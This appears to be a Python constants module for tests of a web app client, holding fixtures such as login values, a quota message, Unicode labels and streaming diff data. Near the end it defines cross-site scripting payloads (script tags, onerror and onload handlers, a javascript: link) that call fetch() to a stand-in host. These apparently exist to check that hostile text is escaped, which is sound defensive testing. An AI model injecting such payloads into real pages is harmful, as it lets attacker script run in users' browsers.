"""What both the apps and the tests know of the apps."""

LOGIN = ("user", "pass word")
ERROR_TEXT = "the error text of the server"
QUOTA_TEXT = (
    "You have exceeded your free ZeroGPU quota (120s requested vs. 12s left). "
    "Try again in 23:51:16. "
)
LABELS = ('It\'s "quoted" <b>ü</b>', "日本語 & more", "spaces  and\ttabs", "")
MOUNT_PATH = "/sub/app"

# What a live app's functions do.
COUNT = 20  # outputs
PAUSE = 0.05  # seconds between two of them
LONG = 60.0  # seconds of a call that is to be cancelled
# Whole outputs, one after the other, of which newer servers send the differences.
CHANGES = (
    {"text": "a", "items": [1, 2, 3], "deep": {"a": {"b": [{"c": "x", "d": None}]}}},
    {"text": "ab", "items": [1, 2, 3, 4], "deep": {"a": {"b": [{"c": "xy", "d": []}]}}},
    {"text": "ab", "items": [2, 4], "deep": {"a": {"b": [{"c": "xy"}, {"e": 1.5}]}}},
    {"text": "other", "items": [[2], 4, {"new": True}], "deep": {"a": {}}, "key/with.signs": 1},
    {"items": [], "deep": None, "key/with.signs": "1", "": {"0": "zero"}},
    [{"a": 1}, "b", "Grüße 🙂"],
    [{"a": 1, "b": [2]}, "b", "Grüße 🙂 und 日本"],
    [[1, 2, [3, 4, 5]], [6, 7], {"a": [8, 9]}, "b", "c"],
    [[1, [3]], [], {"a": [9]}],
    [[1, 2], ["one"]],
    [],
    None,
    {"text": "a" * 1000},
    {"text": "a" * 1000 + "b" * 1000, "more": {"text": "end"}},
)
FILES = (b"first", b"second", b"third" * 1000)

# What a hostile app's texts would do: each would be seen in a browser that runs one of them.
HACK = (
    "window.hacked = 1; alert(1);"
    " fetch('http://127.0.0.1:9/hacked'); fetch('http://hacked.example/')"
)
MARKUP = (
    f'"><script>{HACK}</script><img src="http://hacked.example/img" onerror="{HACK}">'
    f'<svg onload="{HACK}"></svg><a href="javascript:{HACK}">link</a>'
)

# What a studio app's table and dropdown have.
HEADERS = ("name", "score")
SIZES = ("small", "big")

# The number of endpoints of a wide app.
WIDE = 20
